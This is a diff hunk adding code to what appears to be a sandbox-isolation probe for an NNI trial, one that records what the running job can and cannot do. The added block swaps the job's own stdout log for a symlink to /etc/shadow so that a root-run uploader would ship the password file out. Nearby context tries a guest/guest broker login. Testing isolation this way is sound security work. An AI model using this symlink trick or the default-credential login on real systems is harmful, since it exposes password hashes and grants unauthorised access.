@@ -164,6 +164,16 @@ if params.get("amqp"):
     host, _, port = params["amqp"].rpartition(":")
     found["log in to the broker as guest"] = amqp_login(host, int(port), "guest", "guest")
 
+# Swap its own stdout log for a link to a root-only file (which a root submitter would upload).
+try:
+    log_path = os.readlink("/proc/self/fd/1")
+    link = log_path + ".swap"
+    os.symlink("/etc/shadow", link)
+    os.replace(link, log_path)
+    found["swap my log for a link"] = f"DONE: {log_path}"
+except OSError as exc:
+    found["swap my log for a link"] = f"refused ({type(exc).__name__})"
+
 # What it may do: write its own output folder, and report through its own credential.
 with open(os.path.join(os.environ["NNI_OUTPUT_DIR"], "mine.txt"), "w") as own:
     own.write("ok")
